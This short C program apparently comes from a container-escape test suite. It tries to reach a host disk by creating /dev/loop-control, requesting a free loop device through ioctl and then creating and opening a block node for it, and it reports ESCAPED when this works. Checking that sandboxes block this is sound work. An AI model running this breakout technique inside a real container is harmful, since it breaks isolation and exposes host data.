/* From loop-control, given or made, to a disk of the host: its ioctl tells of one (loop(4)), whose node is then made and opened. */
#include <linux/loop.h>
#include <sys/ioctl.h>
#include <sys/sysmacros.h>
#include "attack.h"

int main(void)
{
    if (mknod("/dev/loop-control", S_IFCHR | 0600, makedev(10, 237)) < 0 && errno != EEXIST)
        return held("loop-control");
    int number = ioctl(open("/dev/loop-control", O_RDWR), LOOP_CTL_GET_FREE);
    if (number < 0)
        return held("LOOP_CTL_GET_FREE");
    unlink("/dev/loop-made");
    if (mknod("/dev/loop-made", S_IFBLK | 0600, makedev(7, number)) < 0)
        return held("mknod");
    return open("/dev/loop-made", O_RDONLY) >= 0 ? ESCAPED : held("open");
}
